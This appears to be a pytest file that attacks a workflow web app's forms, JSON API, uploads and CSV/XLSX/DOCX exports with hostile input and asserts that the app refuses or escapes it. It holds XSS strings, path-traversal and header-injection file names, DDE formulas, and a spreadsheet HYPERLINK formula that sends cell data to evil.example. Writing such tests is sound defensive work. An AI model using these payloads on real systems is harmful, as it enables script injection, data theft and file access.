"""Forms and uploads as hostile input, over real HTTP through a live server.

* Wrong types, out-of-range values, oversized text and malformed bodies are refused (422 with a message per field,
  400, or 413), through the JSON API and the task pages, and nothing is stored.
* Undeclared fields are ignored: they never reach the workflow data or the audit trail.
* HTML/JS typed into text fields is escaped everywhere it is shown: the task page, the inbox, the history, the
  notifications, the meeting and ledger pages, the dashboards; the Excel and CSV exports hold no formula (cells
  starting with = + - @ are neutralized); the minutes .docx reads back the literal text.
* Uploads with the wrong type, oversized, or with path tricks in their names (``../../etc/passwd``,
  ``..\\x.pdf``, NUL bytes, control characters) are refused or stored under a clean name.
* NUL bytes and lone surrogates — text PostgreSQL cannot store — are refused cleanly on every route (they were
  500s on PostgreSQL).

Every hostile submission counts towards the figure "form inputs tried".
"""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
import zipfile
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import requests
from chaos.harness import private_schema
from figures import count
from sqlalchemy import func, select
from web_support import Browser, LiveApp, live_app

from bench.world import T0, pg_unreachable, postgres_url
from engine.budgets import Budgets
from engine.clock import ManualClock
from engine.loader import SourceFile
from engine.models import Attachment, AuditEvent, HumanTask, Instance
from engine.service import Actor
from meeting.accounts import create_token
from meeting.demo import Walkthrough
from meeting.ledger import COLUMNS
from meeting.models import ResolutionItem, Topic, User

ROOT = Path(__file__).resolve().parent.parent
CHAIN = ROOT / "tests/chaos/chaos_chain.bpmn"
XSS = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>')
RAW = ("<script>alert(1)", "<img src=x onerror")  # what must never reach a page unescaped
SHOWN = ("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;")
FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0")
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
MB = 1024 * 1024


@pytest.fixture(params=["sqlite", "postgresql"])
def live(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[LiveApp]:
    seconds = Budgets(min_timer_seconds=1)  # the chaos chain's timers are seconds long
    if request.param == "sqlite":
        with live_app(f"sqlite:///{tmp_path}/hostile.db", ManualClock(T0), BUDGETS=seconds) as app:
            yield app
        return
    reason = pg_unreachable(postgres_url())
    if reason:
        pytest.skip(reason)
    with private_schema(postgres_url()) as url, live_app(url, ManualClock(T0), BUDGETS=seconds) as app:
        yield app


@pytest.fixture
def live_sqlite(tmp_path: Path) -> Iterator[LiveApp]:
    with live_app(f"sqlite:///{tmp_path}/hostile.db", ManualClock(T0)) as app:
        yield app


class Api:
    """The JSON API with a user's personal token."""

    def __init__(self, live: LiveApp, username: str) -> None:
        self.base = live.url
        self.http = requests.Session()
        with live.db.transaction() as s:
            user = s.scalar(select(User).where(User.username == username))
            assert user is not None
            self.http.headers["Authorization"] = f"Bearer {create_token(s, user, 'hostile', live.service.now())}"

    def post(self, path: str, body: Any = None, raw: bytes | str | None = None,
             content_type: str = "application/json") -> requests.Response:
        if raw is not None:
            return self.http.post(self.base + path, data=raw if isinstance(raw, bytes) else raw.encode(),
                                  headers={"Content-Type": content_type}, timeout=60)
        return self.http.post(self.base + path, json=body, timeout=60)

    def get(self, path: str) -> requests.Response:
        return self.http.get(self.base + path, timeout=60)


def assert_inert(html: str, where: str, shown: bool = True) -> None:
    """No payload reaches the page as markup; with ``shown``, the page does show it (escaped)."""
    for raw in RAW:
        assert raw not in html, f"{where}: unescaped {raw!r}"
    if shown:
        assert any(s in html for s in SHOWN), f"{where}: the hostile text is not shown at all"


def completes(live: LiveApp, task_id: str) -> int:
    with live.db.sessions() as s:
        return s.scalar(select(func.count()).select_from(AuditEvent).where(
            AuditEvent.task_id == task_id, AuditEvent.action == "complete")) or 0


def task_state(live: LiveApp, task_id: str) -> str:
    with live.db.sessions() as s:
        task = s.get(HumanTask, task_id)
        assert task is not None
        return task.state


def deploy_chain(live: LiveApp) -> None:
    live.service.deploy([SourceFile(CHAIN.name, CHAIN.read_bytes())], Actor("designer", frozenset({"designer"})))


def multipart(fields: dict[str, str], file_field: str, file_name: bytes, content: bytes,
              content_type: str = "application/pdf") -> tuple[bytes, str]:
    """A multipart body written byte by byte: the file name goes out exactly as given (NUL, CR, quotes …)."""
    boundary = f"----hostile{uuid.uuid4().hex}"
    out = io.BytesIO()
    for name, value in fields.items():
        out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode())
        out.write(value.encode() + b"\r\n")
    out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{file_field}"; filename="'.encode())
    out.write(file_name + f'"\r\nContent-Type: {content_type}\r\n\r\n'.encode())
    out.write(content + f"\r\n--{boundary}--\r\n".encode())
    return out.getvalue(), f"multipart/form-data; boundary={boundary}"


# ---------------------------------------------------------------------------------------------- 1. types
FILL_CASES: list[tuple[str, Any, str]] = [
    # (label, JSON body or raw text, the field the refusal names)
    ("list for text", {"note": ["a"], "n": 1}, "note"),
    ("operator object", {"note": {"$gt": ""}, "n": 1}, "note"),
    ("boolean for text", {"note": True, "n": 1}, "note"),
    ("null for required", {"note": None, "n": 1}, "note"),
    ("blank for required", {"note": "   ", "n": 1}, "note"),
    ("201 characters", {"note": "长" * 201, "n": 1}, "note"),
    ("a megabyte of text", {"note": "x" * MB, "n": 1}, "note"),
    ("line break in a one-line field", {"note": "a\nb", "n": 1}, "note"),
    ("NUL byte", {"note": "a\x00b", "n": 1}, "note"),
    ("lone surrogate", '{"note": "\\ud800", "n": 1}', "note"),
    ("below min", {"note": "ok", "n": -1}, "n"),
    ("not a number", {"note": "ok", "n": "abc"}, "n"),
    ("fraction", {"note": "ok", "n": 1.5}, "n"),
    ("boolean for number", {"note": "ok", "n": True}, "n"),
    ("2**63", {"note": "ok", "n": 2**63}, "n"),
    ("exponent string", {"note": "ok", "n": "1e3"}, "n"),
    ("400 digits", {"note": "ok", "n": "9" * 400}, "n"),
    ("list for number", {"note": "ok", "n": [1]}, "n"),
    ("NaN", '{"note": "ok", "n": NaN}', "n"),
    ("Infinity", '{"note": "ok", "n": Infinity}', "n"),
    ("a list, not an object", [{"note": "ok"}], "_body"),
    ("a string, not an object", "just text", "_body"),
    ("null body", "null", "_body"),
    ("malformed JSON", '{"note": "ok",', "_body"),
    ("100,000 nested arrays", "[" * 100_000 + "]" * 100_000, "_body"),
    ("50,000 nested objects", '{"a":' * 50_000 + "1" + "}" * 50_000, "_body"),
    ("comment not text", {"note": "ok", "n": 1, "_comment": {"x": 1}}, "_comment"),
    ("comment with NUL", {"note": "ok", "n": 1, "_comment": "a\x00b"}, "_comment"),
    ("comment with a lone surrogate", '{"note": "ok", "n": 1, "_comment": "\\udfff"}', "_comment"),
]
CHECK_CASES: list[tuple[str, Any, str]] = [
    ("unknown option", {"ok": "maybe"}, "ok"),
    ("number for option", {"ok": 1}, "ok"),
    ("list for option", {"ok": ["yes"]}, "ok"),
    ("other case", {"ok": "YES"}, "ok"),
    ("trailing space", {"ok": "yes "}, "ok"),
    ("missing", {}, "ok"),
    ("object for option", {"ok": {"yes": 1}}, "ok"),
]
PROPOSE_CASES: list[tuple[str, dict[str, Any], str]] = [
    ("unknown unit", {"related_units": ["no-such-unit"]}, "related_units"),
    ("object in unit list", {"related_units": ["minzheng", {"a": 1}]}, "related_units"),
    ("NUL in unit code", {"related_units": ["min\x00zheng"]}, "related_units"),
    ("deeply nested unit list", {"related_units": "[" * 5000}, "related_units"),
    ("201 units", {"related_units": [f"u{i}" for i in range(201)]}, "related_units"),
    ("unit code of 65 characters", {"related_units": ["x" * 65]}, "related_units"),
    ("attachment path", {"attachment": "../../etc/passwd"}, "attachment"),
    ("attachment NUL", {"attachment": "a\x00b"}, "attachment"),
    ("attachment not text", {"attachment": 123}, "attachment"),
    ("option as number", {"urgency": 1}, "urgency"),
    ("101-character title", {"title": "题" * 101}, "title"),
    ("20,001-character background", {"background": "景" * 20_001}, "background"),
]
PLAN_CASES: list[tuple[str, dict[str, Any], str]] = [
    ("30 February", {"meeting_date": "2026-02-30"}, "meeting_date"),
    ("date in words", {"meeting_date": "tomorrow"}, "meeting_date"),
    ("date as number", {"meeting_date": 20260310}, "meeting_date"),
    ("date and time", {"meeting_date": "2026-03-10T09:00"}, "meeting_date"),
    ("topic not a number", {"topic_ids": ["abc"]}, "topic_ids"),
    ("unknown topic", {"topic_ids": [999_999]}, "topic_ids"),
    ("broken topic list", {"topic_ids": "[1,2"}, "topic_ids"),
    ("topic id of 30 digits", {"topic_ids": ["9" * 30]}, "topic_ids"),
]


def refused(api: Api, task_id: str, label: str, body: Any, field: str) -> None:
    r = (api.post(f"/api/tasks/{task_id}/complete", raw=body) if isinstance(body, str)
         else api.post(f"/api/tasks/{task_id}/complete", body))
    assert r.status_code == 422, (label, r.status_code, r.text[:300])
    assert field in r.json()["errors"], (label, r.json())
    count("form inputs tried")


def test_wrong_types_out_of_range_and_oversized_values_are_refused_and_nothing_is_stored(live: LiveApp) -> None:
    deploy_chain(live)
    api = Api(live, "caizheng")
    r = api.post("/api/processes/chaos_chain/start", {})
    assert r.status_code == 201
    instance, fill = r.json()["instance_id"], r.json()["my_tasks"][0]
    for label, body, field in FILL_CASES:
        refused(api, fill, label, body, field)
    # bigger than the server takes at all, and not JSON at all
    r = api.post(f"/api/tasks/{fill}/complete", raw=b'{"note": "' + b"x" * (13 * MB) + b'"}')
    assert r.status_code == 413
    r = api.post(f"/api/tasks/{fill}/complete", raw="note=ok&n=1", content_type="application/x-www-form-urlencoded")
    assert r.status_code == 422 and "_body" in r.json()["errors"]
    count("form inputs tried", 2)

    # the same through the task page: a 422 page with the field's message and the input kept (escaped)
    page = live.client("caizheng")
    path = f"/tasks/{fill}"
    page.get(path)
    form_cases = [({"note": "", "n": "1"}, "note"), ({"note": XSS[1] + "x" * 200, "n": "1"}, "note"),
                  ({"note": XSS[0], "n": "-1"}, "n"), ({"note": "ok", "n": "abc"}, "n"),
                  ({"note": "ok", "n": "1.5"}, "n"), ({"note": "ok", "n": "9" * 40}, "n"),
                  ({"note": "a\r\nb", "n": "1"}, "note")]
    for values, field in form_cases:
        r = page.post(path, values, token_from=path)
        assert r.status_code == 422, (values, r.status_code)
        assert f'id="error-{field}"' in r.text, (values, field)
        assert_inert(r.text, f"422 page for {field}", shown=XSS[0] in values["note"] or XSS[1] in values["note"])
        count("form inputs tried")
    for values in ({"note": "a\x00b", "n": "1"}, {"note": "ok", "n": "1", "_comment": "a\x00b"}):
        r = page.post(path, values, token_from=path)
        assert r.status_code == 400 and "NUL" in r.text
        count("form inputs tried")
    r = page.post(path, {"note": "x" * (13 * MB), "n": "1"}, token_from=path)
    assert r.status_code == 413
    count("form inputs tried")
    assert task_state(live, fill) == "READY" and completes(live, fill) == 0
    assert "note" not in live.service.task_data(fill, Actor("caizheng", frozenset({"unit:caizheng"})))

    # 复核 after the one-second timer: its choice field
    r = api.post(f"/api/tasks/{fill}/complete", {"note": "第一步", "n": 1})
    assert r.status_code == 200
    live.clock.advance(timedelta(seconds=1.5))
    assert live.service.fire_due_timers() == 1
    check = next(t.id for t in live.service.instance_tasks(instance) if t.bpmn_id == "check" and t.state == "READY")
    for label, body, field in CHECK_CASES:
        refused(api, check, label, body, field)
    page.get(f"/tasks/{check}")
    r = page.post(f"/tasks/{check}", {"ok": XSS[0]}, token_from=f"/tasks/{check}")
    assert r.status_code == 422
    assert_inert(r.text, "422 page of an option field", shown=False)
    count("form inputs tried")
    assert task_state(live, check) == "READY" and completes(live, check) == 0

    # the topic proposal: units, attachments and limits checked before anything is looked up or stored
    r = api.post("/api/processes/topic_proposal/start", {})
    propose = r.json()["my_tasks"][0]
    good = {"title": "议题", "background": "背景", "proposal": "建议", "urgency": "normal"}
    for label, values, field in PROPOSE_CASES:
        refused(api, propose, label, {**good, **values}, field)
    assert task_state(live, propose) == "READY" and completes(live, propose) == 0

    # the office's meeting plan: dates and topic lists
    office = Api(live, "office")
    r = office.post("/api/processes/joint_meeting/start", {"start_event": "start_regular"})
    assert r.status_code == 201
    meeting_instance = r.json()["instance_id"]
    plan = next(t.id for t in live.service.instance_tasks(meeting_instance) if t.bpmn_id == "draft_plan")
    plan_ok = {"meeting_kind": "regular", "meeting_title": "会议", "meeting_date": "2026-03-10",
               "meeting_place": "会议室"}
    for label, values, field in PLAN_CASES:
        refused(office, plan, label, {**plan_ok, **values}, field)
    assert task_state(live, plan) == "READY" and completes(live, plan) == 0
    with live.db.sessions() as s:
        assert s.scalar(select(func.count()).select_from(Topic)) == 0  # no refused proposal left a topic behind


def test_undeclared_fields_never_reach_the_workflow_data_or_the_audit(live: LiveApp) -> None:
    deploy_chain(live)
    api = Api(live, "caizheng")
    r = api.post("/api/processes/chaos_chain/start", {})
    instance, fill = r.json()["instance_id"], r.json()["my_tasks"][0]
    smuggled = {"initiator": "mallory", "initiator_unit": "gongan", "hack": "<b>smuggled</b>",
                "__class__": "os.system", "__proto__": {"admin": True}, "constructor": {"prototype": {"x": 1}},
                "topic_id": 999, "resolution_id": 1, "status": "completed", "script": "__import__('os')"}
    r = api.post(f"/api/tasks/{fill}/complete", {"note": "声明的字段", "n": 3, **smuggled, "_comment": "说明"})
    assert r.status_code == 200, r.text
    count("form inputs tried", len(smuggled))
    live.clock.advance(timedelta(seconds=1.5))
    live.service.fire_due_timers()
    check = next(t.id for t in live.service.instance_tasks(instance) if t.bpmn_id == "check" and t.state == "READY")
    page = live.client("caizheng")
    page.get(f"/tasks/{check}")
    form_smuggled = {"initiator": "mallory", "hack": "<b>smuggled</b>", "n": "99", "note": "改写", "csrf_extra": "x"}
    r = page.post(f"/tasks/{check}", {"ok": "yes", **form_smuggled}, token_from=None)
    assert r.status_code == 302, r.text[:300]
    count("form inputs tried", len(form_smuggled))

    wf = live.service.workflow(instance)
    for task in wf.get_tasks():
        data = task.data
        assert data.get("initiator") == "caizheng" and data.get("initiator_unit") == "caizheng"
        assert not set(data) & (set(smuggled) - {"initiator", "initiator_unit"}), (task.task_spec.name, data)
        assert data.get("note") in (None, "声明的字段") and data.get("n") in (None, 3)
    with live.db.sessions() as s:
        state = s.get(Instance, instance).state
        audit = list(s.scalars(select(AuditEvent).where(AuditEvent.instance_id == instance)))
    assert "mallory" not in state and "smuggled" not in state and "__proto__" not in state
    done = [a for a in audit if a.action == "complete"]
    assert [sorted(a.data) for a in done] == [["n", "note"], ["ok"]]
    text = json.dumps([a.data for a in audit], ensure_ascii=False)
    assert "mallory" not in text and "smuggled" not in text and "改写" not in text


# ---------------------------------------------------------------------------------------------- 2. uploads
REFUSED_UPLOADS: list[tuple[bytes, bytes, str]] = [
    # (file name as sent, content, the message)
    (b"evil.exe", b"MZ\x90\x00" + b"\x00" * 64, "不支持的附件类型"),
    (b"evil.html", b"<script>alert(1)</script>", "不支持的附件类型"),
    (b"evil.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "不支持的附件类型"),
    (b"report.pdf", b"<html><script>alert(1)</script></html>", "附件内容与扩展名"),
    (b"report.pdf.exe", PDF, "不支持的附件类型"),
    (b"../../etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n", "不支持的附件类型"),
    (b"..\\..\\windows\\win.ini", b"[fonts]\n", "不支持的附件类型"),
    (b"invoice\xe2\x80\xaefdp.exe", b"MZ", "不支持的附件类型"),  # U+202E: "invoiceexe.pdf" on screen
    (b"..pdf", PDF, "不支持的附件类型"),  # leading dots go, leaving "pdf": no extension
    (b"empty.pdf", b"", "附件是空文件"),
    (b"latin1.txt", "caf\u00e9".encode("latin-1"), "UTF-8"),
    (b"photo.png", b"\xff\xd8\xff\xe0 jpeg, not png", "附件内容与扩展名"),
    (b"big.pdf", PDF + b"0" * (10 * MB), "不能超过 10 MB"),
]
CLEANED_UPLOADS: list[tuple[bytes, str | None]] = [
    # (file name as sent in the quoted filename parameter, the name stored; None: any clean name)
    (b"..\\x.pdf", None),  # a bare backslash is a quoted-pair escape there: the server reads "..x.pdf"
    (b"..\\\\..\\\\x.pdf", "x.pdf"),  # escaped backslashes: the server reads "..\\..\\x.pdf"
    (b"C:\\Windows\\System32\\x.pdf", None),
    (b"C:\\\\Windows\\\\System32\\\\x.pdf", "x.pdf"),
    (b"../../etc/x.pdf", "x.pdf"),
    (b"/etc/passwd.pdf", "passwd.pdf"),
    (b"....//....//x.pdf", "x.pdf"),
    (b"a\x00b.pdf", "ab.pdf"),
    (b"\x00../../x.pdf", "x.pdf"),
    (b"a\x1b[31mred\x07.pdf", "a[31mred.pdf"),
    (b"a\tb\x7f.pdf", "ab.pdf"),
    (b"\xe6\x8a\xa5\xe5\x91\x8a \xe2\x80\x8b.pdf", "报告 .pdf"),  # a zero-width space (format character)
    (("长" * 150 + ".pdf").encode(), "长" * 96 + ".pdf"),
    (b'\\"><img src=x onerror=alert(1)>.pdf', '"><img src=x onerror=alert(1)>.pdf'),  # quote escaped
]
MANGLED_UPLOADS: list[bytes] = [  # names that break the multipart header itself
    b'"><img src=x onerror=alert(1)>.pdf',
    b"a\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>.pdf",
    b"a\rb.pdf",
    b"x.pdf\"; filename*=UTF-8''..%2F..%2Fetc%2Fpasswd",
    b"\\",
]


def test_uploads_with_wrong_type_oversize_or_path_tricks_are_refused_or_cleaned(live: LiveApp) -> None:
    b = live.client("caizheng")
    r = b.post("/start", {"process_key": "topic_proposal", "start_event": "start"}, token_from="/start")
    path = r.headers["Location"].replace(live.url, "")
    task_id = path.rsplit("/", 1)[1]
    good = {"title": "附件议题", "background": "背景", "proposal": "建议", "urgency": "normal"}

    def send(name: bytes, content: bytes, fields: dict[str, str], to: str = path) -> requests.Response:
        b.get(to)
        body, ctype = multipart({**fields, "csrf_token": b.last_token}, "attachment", name, content)
        return b.http.post(live.url + to, data=body, headers={"Content-Type": ctype}, allow_redirects=False,
                           timeout=60)

    def fresh_task() -> str:
        r = b.post("/start", {"process_key": "topic_proposal", "start_event": "start"}, token_from="/start")
        return str(r.headers["Location"].replace(live.url, ""))

    def attachments() -> dict[str, str]:
        with live.db.sessions() as s:
            return dict(s.execute(select(Attachment.id, Attachment.file_name)).all())

    for name, content, message in REFUSED_UPLOADS:
        before = attachments()
        r = send(name, content, good)
        assert r.status_code == 422, (name, r.status_code, r.text[:300])
        assert message in r.text, (name, re.findall(r'id="error-attachment"[^>]*>([^<]*)', r.text))
        assert attachments() == before, name
        count("form inputs tried")
    r = send(b"huge.pdf", PDF + b"0" * (12 * MB), good)
    assert r.status_code == 413 and "过大" in r.text
    count("form inputs tried")

    # names with path tricks: a submission refused for another field keeps no file (the task stays open for
    # the next name); accepted on a task of its own, the file is stored under its last, clean component
    for name, stored in CLEANED_UPLOADS:
        before = attachments()
        r = send(name, PDF, {**good, "urgency": "bogus"})
        assert r.status_code == 422, (name, r.status_code, r.text[:300])
        assert attachments() == before, name
        assert_inert(r.text, f"422 page after uploading {name!r}", shown=False)
        r = send(name, PDF, good, to=fresh_task())
        assert r.status_code == 302, (name, r.status_code, r.text[:300])
        new = [n for i, n in attachments().items() if i not in before]
        assert len(new) == 1, (name, new)
        got = new[0]
        assert stored is None or got == stored, (name, got)
        assert not re.search(r"[\\/\x00-\x1f\x7f]", got) and not got.startswith(".")
        count("form inputs tried")
    for name in MANGLED_UPLOADS:
        before = attachments()
        r = send(name, PDF, {**good, "urgency": "bogus"})
        assert r.status_code in (400, 422), (name, r.status_code, r.text[:300])
        assert attachments() == before, name
        assert_inert(r.text, f"the page after uploading {name!r}", shown=False)
        r = send(name, PDF, good, to=fresh_task())
        assert r.status_code in (302, 400, 422), (name, r.status_code, r.text[:300])
        for got in (n for i, n in attachments().items() if i not in before):
            assert not re.search(r"[\\/\x00-\x1f\x7f]", got) and not got.startswith("."), (name, got)
        count("form inputs tried")
    assert task_state(live, task_id) == "READY" and completes(live, task_id) == 0

    # accepted: a script in a text file and a hostile name; both download as inert attachments
    r = send(b'\\"><img src=x onerror=alert(1)>.txt', XSS[0].encode(), {**good, "_comment": XSS[1]})
    assert r.status_code == 302, r.text[:300]
    count("form inputs tried")
    unit_actor, office_actor = Actor("caizheng", frozenset({"unit:caizheng"})), Actor("office", frozenset({"office"}))
    instance = live.service.get_task(task_id, unit_actor).instance_id
    screen = next(t.id for t in live.service.instance_tasks(instance) if t.bpmn_id == "screen")
    data = live.service.task_data(screen, office_actor)
    office = live.client("office")
    got = office.get(f"/attachments/{data['attachment']}")
    assert got.status_code == 200 and got.content == XSS[0].encode()
    assert got.headers["Content-Type"].startswith("text/plain") and got.headers["X-Content-Type-Options"] == "nosniff"
    disposition = got.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "\r" not in disposition and "\n" not in disposition
    assert disposition.count('"') == 0 and "<" not in disposition  # the name travels percent-encoded only
    assert_inert(office.get(f"/tasks/{screen}").text, "the office's task page with the attachment")
    with live.db.sessions() as s:
        assert s.scalar(select(Attachment.file_name).where(Attachment.id == data["attachment"])) == \
            '"><img src=x onerror=alert(1)>.txt'


# ---------------------------------------------------------------------------------------------- 3. escaping
def xlsx_cells(data: bytes) -> list[Any]:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def docx_text(data: bytes) -> str:
    from docx import Document

    doc = Document(io.BytesIO(data))
    parts = [p.text for p in doc.paragraphs]
    for table in doc.tables:
        parts += [cell.text for row in table.rows for cell in row.cells]
    for section in doc.sections:
        parts += [p.text for p in section.header.paragraphs] + [p.text for p in section.footer.paragraphs]
    return "\n".join(parts)


def test_html_and_formulas_in_text_are_inert_everywhere_they_are_shown(live_sqlite: LiveApp) -> None:
    live = live_sqlite
    w = Walkthrough(live.db, live.service, live.clock)
    unit, office = live.client("caizheng"), live.client("office")

    # a unit proposes a topic whose every text field attacks
    r = unit.post("/start", {"process_key": "topic_proposal", "start_event": "start"}, token_from="/start")
    propose_path = r.headers["Location"].replace(live.url, "")
    unit.get(propose_path)
    body, ctype = multipart({"title": XSS[0], "background": XSS[1] + "\n" + FORMULAS[0], "proposal": FORMULAS[1],
                             "urgency": "urgent", "related_units": "minzheng", "_comment": XSS[1],
                             "csrf_token": unit.last_token},
                            "attachment", f"{XSS[1]}.pdf".encode(), PDF)
    r = unit.http.post(live.url + propose_path, data=body, headers={"Content-Type": ctype}, allow_redirects=False,
                       timeout=60)
    assert r.status_code == 302, r.text[:400]
    count("form inputs tried", 6)
    inbox = office.get("/tasks?tab=claimable").text
    assert_inert(inbox, "the office's inbox")
    screen = re.findall(r'data-task-id="([^"]+)"', inbox)[0]
    assert_inert(office.get(f"/tasks/{screen}").text, "the office's task page")
    assert_inert(office.get("/tasks?tab=claimable&q=" + requests.utils.quote(XSS[0])).text, "inbox search",
                 shown=False)
    r = Api(live, "office").post(f"/api/tasks/{screen}/complete",
                                 {"screen_decision": "accept", "screen_comment": XSS[0], "_comment": XSS[1]})
    assert r.status_code == 200, r.text
    count("form inputs tried", 2)
    assert_inert(unit.get("/notifications").text, "the unit's notifications")
    assert_inert(unit.get("/tasks?tab=done").text, "the unit's done tab", shown=False)  # no topic yet when created
    assert_inert(unit.get(propose_path).text, "the unit's finished task with its history")
    instance = live.service.get_task(screen, w.actor("office")).instance_id
    assert_inert(office.get(f"/instances/{instance}").text, "the instance page with the history")
    with live.db.sessions() as s:
        topic_id = s.scalar(select(Topic.id).where(Topic.title == XSS[0]))
    assert topic_id is not None

    # the meeting: its plan, a unit's reply, the outcome and the minutes typed through the task pages
    r = office.post("/start", {"process_key": "joint_meeting", "start_event": "start_regular"}, token_from="/start")
    assert r.status_code == 302
    meeting_title = FORMULAS[3] + XSS[0]

    def submit(user: Browser, task_id: str, values: dict[str, Any]) -> None:
        path = f"/tasks/{task_id}"
        r = user.post(path, values, token_from=path)
        assert r.status_code == 302, (values, r.status_code, re.findall(r'id="error-[^"]+"[^>]*>([^<]*)', r.text))
        count("form inputs tried", len(values))

    submit(office, w.task("office", "draft_plan").id, {
        "meeting_kind": "regular", "meeting_title": meeting_title, "meeting_date": w.today(7),
        "meeting_place": XSS[1], "topic_ids": [str(topic_id)]})
    w.do("convener", "approve_plan", {"plan_decision": "approve", "plan_comment": XSS[0]})
    with live.db.sessions() as s:
        from meeting import directory

        members = directory.member_unit_codes(s)
    for code in members:
        if code == "caizheng":
            submit(unit, w.task(code, "confirm_attendance", attendee=code).id,
                   {"attendance": "attend", "attendee_name": XSS[1]})
        else:
            w.do(code, "confirm_attendance", {"attendance": "attend", "attendee_name": f"{code}负责人"},
                 attendee=code)
    w.advance(7.1)
    w.do("office", "sign_in", {"presider_name": XSS[0], "presider_post": FORMULAS[1]})
    items = [(FORMULAS[0], "caizheng"), (XSS[0] + " " + XSS[1], "renshe"), (FORMULAS[1], "yibao"),
             (FORMULAS[2], "minzheng"), (FORMULAS[3], "weijian")]
    rows = [{"content": c, "lead_unit": lead, "co_units": ["minzheng"] if lead != "minzheng" else [],
             "deadline": w.today(30), "topic_id": topic_id} for c, lead in items]
    outcome = w.task("office", "record_outcome").id
    bad_tables = [("not JSON", "事项一"), ("nested 100,000 deep", "[" * 100_000 + "]" * 100_000),
                  ("an object", '{"content": "x"}'), ("101 rows", json.dumps([rows[0]] * 101)),
                  ("no lead unit", json.dumps([{**rows[0], "lead_unit": ""}])),
                  ("unknown lead unit", json.dumps([{**rows[0], "lead_unit": XSS[0]}])),
                  ("13th month", json.dumps([{**rows[0], "deadline": "2026-13-01"}])),
                  ("2,001 characters", json.dumps([{**rows[0], "content": "事" * 2001}])),
                  ("co-units not a list", json.dumps([{**rows[0], "co_units": {"a": 1}}])),
                  ("topic not a number", json.dumps([{**rows[0], "topic_id": XSS[1]}]))]
    for label, table in bad_tables:
        r = office.post(f"/tasks/{outcome}", {"resolution_items": table, "outcome_summary": "审议情况"},
                        token_from=f"/tasks/{outcome}")
        assert r.status_code == 422 and 'id="error-resolution_items"' in r.text, (label, r.status_code)
        assert_inert(r.text, f"the outcome form refused for {label}", shown=False)
        count("form inputs tried")
    r = Api(live, "office").post(f"/api/tasks/{outcome}/complete", {
        "resolution_items": [{**rows[0], "content": "a\x00b"}, {**rows[1], "co_units": ["\ud800"]}],
        "outcome_summary": "审议情况"})
    assert r.status_code == 422 and "resolution_items" in r.json()["errors"], r.text
    count("form inputs tried")
    assert completes(live, outcome) == 0
    submit(office, outcome, {"resolution_items": json.dumps(rows, ensure_ascii=False), "outcome_summary": XSS[0]})
    minutes_body = XSS[1] + "\n" + FORMULAS[0]
    submit(office, w.task("office", "draft_minutes").id, {"minutes_body": minutes_body,
                                                          "comment_deadline": w.today(3)})
    submit(unit, w.task("caizheng", "comment_minutes", comment_unit="caizheng").id,
           {"comment_answer": "opinion", "comment_text": XSS[1] + FORMULAS[2]})
    w.advance(3.5)
    w.do("convener", "approve_minutes", {"minutes_decision": "approve", "minutes_comment": XSS[1]})

    with live.db.sessions() as s:
        resolutions = list(s.scalars(select(ResolutionItem).order_by(ResolutionItem.id)))
        meeting_id = resolutions[0].meeting_id
    assert [r.content for r in resolutions] == [c for c, _ in items]
    assert {r.status for r in resolutions} <= {"open", "in_progress"}

    # every page that shows these texts shows them escaped
    pages = {"/meetings": True, f"/meetings/{meeting_id}": True, "/resolutions": True,
             "/resolutions?q=" + requests.utils.quote("<script>"): True, "/monitor": False, "/monitor/units": False,
             "/monitor/units/report": False, "/instances": False, "/tasks?tab=done": True, "/notifications": False}
    pages.update({f"/resolutions/{r.id}": r.content.startswith("<") for r in resolutions})
    for path, shown in pages.items():
        r = office.get(path)
        assert r.status_code == 200, (path, r.status_code)
        assert_inert(r.text, path, shown=shown)
    implement = w.task("renshe", "implement", resolution_id=resolutions[1].id)
    assert_inert(live.client("renshe").get(f"/tasks/{implement.id}").text, "the lead unit's task page")
    assert_inert(live.client("renshe").get("/tasks?tab=claimable").text, "the lead unit's inbox")

    # the exports hold no formula and the literal texts
    every_column = "?" + "&".join(f"col={c}" for c in COLUMNS)  # the meeting's title too
    csv_response = office.get("/resolutions/export.csv" + every_column)
    assert csv_response.status_code == 200
    table = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"))))
    cells = [c for row in table for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    for content, _ in items:
        assert ("'" + content if content[:1] in "=+-@" else content) in cells
    assert any(c.endswith(meeting_title) for c in cells)  # "<meeting number> <title>"
    xlsx = office.get("/resolutions/export.xlsx" + every_column)
    assert xlsx.status_code == 200
    values = []
    for cell in xlsx_cells(xlsx.content):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert cell.value[:1] not in ("=", "+", "-", "@"), (cell.coordinate, cell.value)
            values.append(cell.value)
    for content, _ in items:
        assert ("'" + content if content[:1] in "=+-@" else content) in values
    assert any(v.endswith(meeting_title) for v in values)
    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as z:
        assert not any("<f>" in z.read(n).decode("utf-8", "replace") for n in z.namelist() if n.endswith(".xml"))

    # the minutes document reads back the literal text
    doc = office.get(f"/meetings/{meeting_id}/minutes.docx")
    assert doc.status_code == 200
    text = docx_text(doc.content)
    for expected in (meeting_title, "汉救联纪〔2026〕1号", f"{XSS[0]}主持会议", XSS[1], FORMULAS[0], XSS[0] + " " + XSS[1],
                     FORMULAS[1], FORMULAS[2]):
        assert expected in text, expected
    with zipfile.ZipFile(io.BytesIO(doc.content)) as z:
        document = z.read("word/document.xml").decode("utf-8")
